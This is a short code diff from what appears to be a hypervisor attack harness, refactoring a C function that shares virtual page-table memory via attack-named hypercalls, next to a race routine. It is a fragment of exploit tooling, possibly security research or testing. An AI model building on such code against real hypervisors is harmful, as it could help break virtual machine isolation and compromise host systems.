@@ -184,11 +184,10 @@ static void race_vmapp(struct attack_queue *queue, uint64_t vpt, long seconds)
 
 static uint64_t share_vpt(void)
 {
-	uint64_t vpt = pages_alloc(4), page = sysconf(_SC_PAGESIZE);
+	uint64_t vpt = pages_alloc(4);
 
-	for (uint64_t at = 0; vpt && at < VPT_SIZE; at += page)
-		if (hypercall(ATTACK_CALL_SHARE_HYP, (vpt + at) / page, 0, 0, 0, 0, 0))
-			return 0;
+	if (!vpt || on_pages(ATTACK_CALL_SHARE_HYP, vpt, VPT_SIZE))
+		return 0;
 	return reserve(ATTACK_CALL_RESERVE_VPE, ITS_FRAME, VPE, 0) ? 0 : vpt;
 }
 
